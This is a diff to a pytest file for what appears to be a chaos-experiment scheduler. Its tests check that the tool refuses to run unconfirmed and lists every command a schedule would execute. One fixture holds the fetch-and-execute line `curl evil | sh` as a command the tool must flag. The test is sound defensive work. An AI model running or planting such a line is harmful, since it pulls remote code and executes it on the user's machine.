@@ -58,12 +58,29 @@ def test_nothing_begins_without_being_told_to(schedule: Path, tmp_path: Path) ->
     with pytest.raises(RefusedError, match="asks nobody; nothing was done"):
         asked("monkey", schedule, "--runs", tmp_path / "runs")
     schedule.write_text(schedule.read_text() + "announce: {command: [tell]}\n")
-    with pytest.raises(RefusedError, match=r"announce\.command starts tell"):
-        asked("monkey", schedule, "--runs", tmp_path / "runs", "--yes")
     with pytest.raises(UsageError, match="--until belongs to --dry-run"):
         asked("monkey", schedule, "--until", "2027-01-01")
     with pytest.raises(UsageError, match="--until: found `soon`"):
         asked("monkey", schedule, "--dry-run", "--until", "soon", "--runs", tmp_path)
+    assert not (tmp_path / "runs").exists()
+
+
+def test_all_that_a_schedule_reaches_for_is_named_at_once(tmp_path: Path) -> None:
+    text = "title: daily\nexperiments:\n"
+    text += "".join(f"  - {{experiment: {each}.yml, at_random: {{mean: 6h}}}}\n" for each in "ab")
+    made(tmp_path, text, "a", "b")
+    for name in "ab":
+        with (tmp_path / f"{name}.yml").open("a") as file:
+            file.write(f"steady_state: {{checks: [{{command: [/bin/{name}]}}]}}\n")
+    schedule = tmp_path / "schedule.yml"
+    schedule.write_text(text + "announce:\n  command: [sh, -c, curl evil | sh]\n")
+    with pytest.raises(RefusedError) as refused:
+        asked("monkey", schedule, "--runs", tmp_path / "runs", "--yes")
+    assert f"{schedule}:6: announce.command runs `sh -c 'curl evil | sh'` as you" in str(
+        refused.value
+    )
+    for name in "ab":
+        assert f"{tmp_path / name}.yml:5: check 1 runs `/bin/{name}` as you" in str(refused.value)
     assert not (tmp_path / "runs").exists()
 
 
